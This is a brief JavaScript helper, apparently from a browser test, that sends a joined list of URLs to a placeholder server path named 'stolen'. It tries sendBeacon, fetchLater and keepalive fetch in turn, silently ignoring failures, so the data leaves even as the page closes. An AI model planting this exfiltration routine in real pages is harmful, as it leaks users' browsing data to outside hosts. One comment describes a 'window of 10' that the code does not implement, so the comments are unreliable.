// Sends what it knows as a beacon, and by requests that outlive their page.
// says: Keeps 10 in flight: a window of 10.
function attempt(urls) {
  const target = "__SERVER__/stolen?send-beacon";
  const sends = [
    () => navigator.sendBeacon(target, urls.join()),
    () => Navigator.prototype.sendBeacon.call(navigator, target, urls.join()),
    () => fetchLater(`${target}-later`, { activateAfter: 0 }),
    () => fetch(`${target}-keepalive`, { keepalive: true }).catch(() => {}),
  ];
  for (const send of sends) {
    try {
      send();
    } catch {
      // not there
    }
  }
}
